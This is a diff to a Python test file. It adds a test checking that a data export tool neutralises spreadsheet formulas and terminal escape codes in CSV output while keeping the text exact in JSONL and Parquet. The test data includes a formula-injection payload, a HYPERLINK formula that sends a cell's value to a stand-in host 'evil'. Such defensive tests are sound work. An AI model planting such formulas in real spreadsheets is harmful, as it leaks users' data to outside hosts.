@@ -8,6 +8,8 @@ import shutil
 import polars as pl
 import pytest
 
+from resources.common.text import visible
+from synpo_assets.cli.rows import WRITERS
 from tests.conftest import synpo_here
 from tests.nano import write_settings
 from tests.stand_ins import services_in
@@ -115,6 +117,16 @@ def test_no_file_of_a_home_is_written_by_name(home, tmp_path, place, more, is_li
     assert rows(home, "seed_pairs", "--output", tmp_path / "published" / "rows.csv").returncode == 0
     assert rows(home, "seed_pairs", "--output", home / "published" / "rows.csv", "--overwrite").returncode == 0
     shutil.rmtree(home / "published")
+
+
+def test_a_spreadsheet_takes_no_text_for_a_formula_and_other_files_hold_it_exactly(tmp_path):
+    text = '=HYPERLINK("http://evil/?"&A1)\x1b]0;x\x07'
+    frame, file = pl.DataFrame({"text": [text, "a = b"], "number": [1, 2]}), tmp_path / "rows"
+    for suffix, found in ((".csv", "'" + visible(text)), (".jsonl", text), (".parquet", text)):
+        with file.open("wb") as opened:
+            WRITERS[suffix](frame, opened)
+        reader = {".csv": pl.read_csv, ".jsonl": pl.read_ndjson, ".parquet": pl.read_parquet}[suffix]
+        assert reader(file).rows() == [(found, 1), ("a = b", 2)]
 
 
 def test_a_link_that_leads_nowhere_is_there_and_what_is_no_file_is_not_replaced(home, tmp_path):
